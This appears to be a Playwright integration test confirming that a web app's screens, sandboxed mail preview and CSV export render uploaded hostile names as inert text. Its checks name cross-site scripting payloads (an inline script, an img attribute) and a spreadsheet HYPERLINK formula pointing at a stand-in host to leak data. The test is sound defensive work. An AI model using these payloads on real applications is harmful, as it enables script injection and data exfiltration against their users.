import type { APIRequestContext, Page } from "playwright-core";
import { openBrowser, screenshot, type BrowserSession } from "@/tests/helpers/browser";
import { testServices } from "@/tests/helpers/env";
import { closeConnections } from "@/tests/helpers/teardown";
import { waitFor } from "@/tests/helpers/wait";
import { PASSWORD, makeWorkspace } from "@/tests/integration/auth/fixtures";
import { sha256 } from "@/tests/integration/intake/fixtures";
import {
  FORMULA,
  HOSTILE_FILE_STEM,
  HOSTILE_INDICATORS,
  HOSTILE_LABEL,
  HOSTILE_PANEL_NAME,
  HOSTILE_REGION_CODES,
  HOSTILE_REGION_NAMES,
  HOSTILE_SET_NAME,
  TEMPLATE,
  XSS_ATTR,
  XSS_SCRIPT,
  hostileBoundaries,
  hostilePanel,
  hostileTag,
} from "@/tests/integration/security/hostile-data";
import { watchSecurity, type SecurityWatch } from "./security-watch";

// A steward of a workspace of its own uploads boundaries and a panel whose
// file names, set and panel names, region codes and names, indicator codes and
// an indicator label are script-, template-, formula- and path-like (through
// the same API the upload screen uses), runs an analysis, and then looks at
// every screen that shows those names. Each must show them as literal text:
// window.__xss stays undefined, no dialog opens, and no CSP violation fires
// (an injected handler or script would be blocked and reported).

jest.setTimeout(600_000);

let session: BrowserSession;
let slug: string;
let steward: { email: string };
let runId: number;
let watch: SecurityWatch;

async function api<T>(request: APIRequestContext, method: "GET" | "POST" | "PUT", path: string, body?: unknown, expected = [200, 201, 202]): Promise<T> {
  const response = await request.fetch(path, { method, data: body === undefined ? undefined : body });
  if (!expected.includes(response.status())) throw new Error(`${method} ${path} answered ${response.status()}: ${await response.text()}`);
  return (await response.json()) as T;
}

/** What the upload screen does: ticket, PUT straight to S3, completion. */
async function upload(request: APIRequestContext, kind: "boundaries" | "panel", fileName: string, text: string): Promise<string> {
  const bytes = Buffer.from(text, "utf8");
  const ticket = await api<{ uploadId: string; url: string; contentType: string }>(request, "POST", `/api/w/${slug}/intake/uploads`, {
    kind,
    fileName,
    size: bytes.length,
    sha256: sha256(bytes),
  });
  const put = await fetch(ticket.url, { method: "PUT", headers: { "Content-Type": ticket.contentType }, body: new Uint8Array(bytes) });
  if (!put.ok) throw new Error(`PUT to S3 answered ${put.status}`);
  const done = await api<{ state: string }>(request, "POST", `/api/w/${slug}/intake/uploads/${ticket.uploadId}/complete`, {});
  expect(done.state).toBe("received");
  return ticket.uploadId;
}

async function settledVersion(request: APIRequestContext, kind: "boundaries" | "panel", id: number): Promise<string> {
  return waitFor(`${kind} version ${id} to be validated`, async () => {
    const v = await api<{ state: string }>(request, "GET", `/api/w/${slug}/intake/versions/${kind}/${id}`);
    return v.state !== "uploaded" ? v.state : null;
  }, { timeoutMs: 90_000, intervalMs: 500 });
}

async function signIn(page: Page, email: string) {
  await page.goto("/sign-in");
  await page.getByLabel("E-mail address").fill(email);
  await page.getByLabel("Password").fill(PASSWORD);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.waitForURL((url) => !url.pathname.startsWith("/sign-in"));
}

/** window.__xss must stay undefined on every screen. */
async function expectNoScriptRan(page: Page, screen: string) {
  const xss = await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss);
  if (xss !== undefined) throw new Error(`${screen}: window.__xss was set to ${JSON.stringify(xss)} — an injected script ran`);
}

async function bodyText(page: Page): Promise<string> {
  return page.locator("body").innerText();
}

function expectLiteral(text: string, values: readonly string[], screen: string) {
  const missing = values.filter((v) => !text.includes(v));
  if (missing.length) throw new Error(`${screen} does not show these names literally: ${missing.map((m) => JSON.stringify(m)).join(", ")}`);
}

beforeAll(async () => {
  testServices();
  const made = await makeWorkspace({ steward: "steward" });
  slug = made.workspace.slug;
  steward = made.users.steward;

  session = await openBrowser({ viewport: { width: 1440, height: 1000 } });
  session.page.setDefaultTimeout(90_000);
  watch = await watchSecurity(session.context, session.page);
  watch.at("sign-in");
  await signIn(session.page, steward.email);
  const request = session.context.request;

  watch.at("uploading");
  const tag = hostileTag();
  const boundaryUpload = await upload(request, "boundaries", `${HOSTILE_FILE_STEM}.geojson`, hostileBoundaries(tag));
  const boundaries = await api<{ id: number; parentId: number }>(request, "POST", `/api/w/${slug}/intake/boundaries`, {
    uploadId: boundaryUpload,
    setName: HOSTILE_SET_NAME,
    objectName: "regions",
    idProperty: "code",
    nameProperty: "name",
  });
  expect(await settledVersion(request, "boundaries", boundaries.id)).toBe("validated");
  await api(request, "POST", `/api/w/${slug}/intake/versions/boundaries/${boundaries.id}/publish`, {});

  const panelUpload = await upload(request, "panel", `${HOSTILE_FILE_STEM}.csv`, hostilePanel(tag));
  const panel = await api<{ id: number }>(request, "POST", `/api/w/${slug}/intake/panels`, {
    uploadId: panelUpload,
    panelName: HOSTILE_PANEL_NAME,
    boundarySetId: boundaries.parentId,
    decimal: ".",
    mapping: { layout: "long", region: "region", period: "period", indicator: "indicator", value: "value" },
  });
  expect(await settledVersion(request, "panel", panel.id)).toBe("validated");
  await api(request, "POST", `/api/w/${slug}/intake/versions/panel/${panel.id}/publish`, {});
  await api(request, "PUT", `/api/w/${slug}/intake/indicators/${encodeURIComponent(TEMPLATE)}`, { label: HOSTILE_LABEL, description: XSS_SCRIPT });

  const started = await api<{ runId: number }>(request, "POST", `/api/w/${slug}/runs`, { panelVersionId: panel.id, permutations: 99, seed: 11 });
  runId = started.runId;
  const state = await waitFor(`run ${runId} to finish`, async () => {
    const run = await api<{ run?: { state: string }; state?: string }>(request, "GET", `/api/w/${slug}/runs/${runId}`);
    const s = run.run?.state ?? run.state;
    return s && s !== "queued" && s !== "running" ? s : null;
  }, { timeoutMs: 240_000, intervalMs: 1_000 });
  expect(state).toBe("completed");
}, 420_000);

afterAll(async () => {
  await session?.close();
  await closeConnections();
});

describe("hostile names are shown as text on every screen", () => {
  it("Intake: set, panel and file names on the overview and the version pages", async () => {
    const { page } = session;
    watch.at("Intake overview");
    await page.goto(`/w/${slug}/intake`);
    await page.getByTestId("upload-wizard").waitFor();
    await page.locator('[data-testid^="panel-version-"]').first().waitFor();
    expectLiteral(await bodyText(page), [HOSTILE_SET_NAME, HOSTILE_PANEL_NAME], "Intake overview");
    // The list truncates long file names with CSS; the full name is in the title attribute and the DOM text.
    const fileCells = await page.locator('[data-testid^="panel-version-"] td[title]').allTextContents();
    expect(fileCells.join("\n")).toContain(`${HOSTILE_FILE_STEM}.csv`);
    await expectNoScriptRan(page, "Intake overview");

    watch.at("Intake panel version");
    await page.locator('[data-testid^="panel-version-"] a').first().click();
    await page.waitForURL(/\/intake\/panels\/\d+$/);
    await page.getByTestId("version-state").waitFor();
    expectLiteral(await bodyText(page), [`${HOSTILE_FILE_STEM}.csv`, HOSTILE_PANEL_NAME], "Intake panel version");
    await screenshot(page, "hostile-intake-panel-version");
    await expectNoScriptRan(page, "Intake panel version");

    watch.at("Intake boundary version");
    await page.goto(`/w/${slug}/intake`);
    await page.locator('[data-testid^="boundaries-version-"] a').first().click();
    await page.waitForURL(/\/intake\/boundaries\/\d+$/);
    const map = page.getByTestId("boundary-map");
    await map.locator("path").first().waitFor();
    expectLiteral(await bodyText(page), [`${HOSTILE_FILE_STEM}.geojson`], "Intake boundary version");
    const titles = (await map.locator("title").allTextContents()).join("\n");
    expectLiteral(titles, HOSTILE_REGION_NAMES.slice(0, 5), "Boundary map region titles");
    await expectNoScriptRan(page, "Intake boundary version");
    watch.assertClean();
  });

  it("Catalogue: indicator codes and labels in the grid, literally", async () => {
    const { page } = session;
    watch.at("Catalogue");
    await page.goto(`/w/${slug}/catalogue?run=${runId}`);
    await page.locator(".ag-row").first().waitFor();
    await waitFor("the catalogue to count twelve indicator-periods", async () => /^12 indicator-period/.test(await page.getByTestId("catalogue-count").innerText()), { timeoutMs: 30_000 });
    const grid = await page.locator(".ag-root").innerText();
    expectLiteral(grid, [XSS_SCRIPT, XSS_ATTR, FORMULA, HOSTILE_LABEL], "Catalogue grid");
    await page.locator(".ag-row").first().hover();
    await screenshot(page, "hostile-catalogue");
    await expectNoScriptRan(page, "Catalogue");
    watch.assertClean();
  });

  it("Indicator timeline: each hostile indicator's page and its chart tooltips", async () => {
    const { page } = session;
    for (const code of HOSTILE_INDICATORS) {
      const screen = `Timeline of ${code}`;
      watch.at(screen);
      await page.goto(`/w/${slug}/timeline?indicator=${encodeURIComponent(code)}&run=${runId}`);
      const chart = page.locator('[data-testid="timeline-moran"]');
      await chart.locator("svg").waitFor();
      const box = await chart.boundingBox();
      if (!box) throw new Error(`${screen}: the chart has no box`);
      for (const fx of [0.3, 0.5, 0.7]) {
        await page.mouse.move(box.x + box.width * fx, box.y + box.height * 0.5);
        await page.waitForTimeout(150);
      }
      const text = await bodyText(page);
      expectLiteral(text, [code === TEMPLATE ? HOSTILE_LABEL : code], screen);
      if (code === TEMPLATE) expectLiteral(text, [XSS_SCRIPT], `${screen} (description)`);
      await expectNoScriptRan(page, screen);
    }
    await screenshot(page, "hostile-timeline");
    watch.assertClean();
  });

  it("Region map: hostile region names on hover and region codes in the scatter plot's HTML tooltips", async () => {
    const { page } = session;
    watch.at("Region map");
    await page.goto(`/w/${slug}/map?indicator=${encodeURIComponent(XSS_ATTR)}&run=${runId}&a=2019&b=2021`);
    const regions = page.locator('[data-testid="cluster-map-a"] path[data-region]');
    await regions.first().waitFor();
    const seenNames: string[] = [];
    for (let i = 0; i < (await regions.count()); i++) {
      const code = (await regions.nth(i).getAttribute("data-region")) ?? "";
      await regions.nth(i).hover();
      seenNames.push(await waitFor(`the detail of region ${JSON.stringify(code)}`, async () => {
        const text = await bodyText(page);
        return text.includes(`(${code})`) ? text : null;
      }));
    }
    expectLiteral(seenNames.join("\n"), [...HOSTILE_REGION_NAMES.slice(0, 5), ...HOSTILE_REGION_CODES.slice(0, 5)], "Region detail on hover");

    // ECharts renders tooltip formatter output as HTML: hover every point and read the tooltip's text.
    const scatter = page.locator('[data-testid="scatter-a"]');
    await scatter.locator("svg").waitFor();
    await scatter.scrollIntoViewIfNeeded();
    // Positions first: hovering raises a point to the end of the SVG, which reorders the paths.
    const points = await scatter.locator("svg path").evaluateAll((paths) =>
      paths
        .map((p) => p.getBoundingClientRect())
        .filter((b) => b.width >= 5 && b.width <= 30 && b.height >= 5 && b.height <= 30) // points only: not axes, ticks or lines
        .map((b) => ({ x: b.x + b.width / 2, y: b.y + b.height / 2 })),
    );
    expect(points).toHaveLength(HOSTILE_REGION_CODES.length);
    const tooltips = new Set<string>();
    // The tooltip is the chart's only <div> without an <svg> inside. It follows the
    // pointer with a transition, so wait (bounded) for the hovered point's own text
    // rather than a fixed pause, which read the previous point's tooltip on a busy machine.
    const tooltipTexts = async () => (await scatter.locator("div:not(:has(svg))").allTextContents()).map((t) => t.trim()).filter(Boolean);
    // Leaving the map clears the highlighted region and redraws the chart, which can swallow the
    // first hover: each point gets up to three tries, each from a spot of the chart without points.
    const box = await scatter.boundingBox();
    if (!box) throw new Error("The scatter plot has no box on screen");
    for (const point of points) {
      let fresh: string[] = [];
      for (let attempt = 0; attempt < 3 && !fresh.some((t) => !tooltips.has(t)); attempt++) {
        await page.mouse.move(box.x + 4, box.y + 4);
        await page.mouse.move(point.x, point.y, { steps: 3 });
        fresh = await waitFor(`a new scatter tooltip at (${point.x.toFixed(0)}, ${point.y.toFixed(0)})`, async () => {
          const texts = await tooltipTexts();
          return texts.some((t) => !tooltips.has(t)) ? texts : null;
        }, { timeoutMs: 3_000, intervalMs: 100 }).catch(() => tooltipTexts());
      }
      for (const tip of fresh) tooltips.add(tip);
    }
    expectLiteral([...tooltips].join("\n"), HOSTILE_REGION_CODES.slice(0, 5), "Scatter plot tooltips");
    // Each tooltip reads "code · cluster class · value", the code exactly as uploaded.
    expect([...tooltips].filter((tip) => !HOSTILE_REGION_CODES.some((code) => tip.startsWith(`${code} · `)))).toEqual([]);
    await screenshot(page, "hostile-region-map");
    await expectNoScriptRan(page, "Region map");
    watch.assertClean();
  });

  it("Desk and Runs: the newest run's indicators and panel name", async () => {
    const { page } = session;
    watch.at("Desk");
    await page.goto(`/w/${slug}/desk`);
    await page.getByTestId("desk-analyses").waitFor();
    await page.waitForTimeout(500);
    expectLiteral(await bodyText(page), [XSS_SCRIPT], "Desk");
    await expectNoScriptRan(page, "Desk");

    watch.at("Runs");
    await page.goto(`/w/${slug}/runs`);
    await page.locator(`[data-testid="run-${runId}"]`).waitFor();
    expectLiteral(await bodyText(page), [HOSTILE_PANEL_NAME], "Runs");
    await expectNoScriptRan(page, "Runs");
    watch.assertClean();
  });

  it("Digest preview: the mail's HTML carries the names escaped, and the sandboxed preview shows them as text", async () => {
    const { page } = session;
    watch.at("Digests");
    await page.goto(`/w/${slug}/digests`);
    const form = page.getByRole("form", { name: "Digest subscription" });
    await form.waitFor();
    await form.locator('select[name="threshold"]').selectOption("every_change");
    await form.locator('select[name="emptyPolicy"]').selectOption("say_so");
    await form.getByRole("button", { name: "Save subscription" }).click();
    const preview = page.locator('iframe[title="Digest preview"]');
    await preview.waitFor({ timeout: 60_000 });
    const composed = await api<{ html: string; text: string }>(session.context.request, "GET", `/api/w/${slug}/digests/preview`);
    expect(composed.html).not.toContain(XSS_SCRIPT);
    expect(composed.html).not.toContain("<img src=x");
    expect(composed.html).toContain("&lt;script&gt;window.__xss=1&lt;/script&gt;");
    expect(composed.text).toContain(XSS_SCRIPT);
    expect(await preview.getAttribute("sandbox")).toBe("");
    const shown = await page.frameLocator('iframe[title="Digest preview"]').locator("body").innerText();
    expectLiteral(shown, [XSS_SCRIPT, XSS_ATTR], "Digest preview frame");
    await screenshot(page, "hostile-digest-preview");
    await expectNoScriptRan(page, "Digests");
    watch.assertClean();
  });

  it("the CSV export of the run neutralises the formula-like code and keeps the others as written", async () => {
    const response = await session.context.request.get(`/api/w/${slug}/catalogue/export?run=${runId}`);
    expect(response.status()).toBe(200);
    expect(response.headers()["content-disposition"]).toMatch(/^attachment;/);
    const csv = await response.text();
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak"",""click"")"`);
    expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
    expect(csv).toContain(XSS_SCRIPT);
  });
});
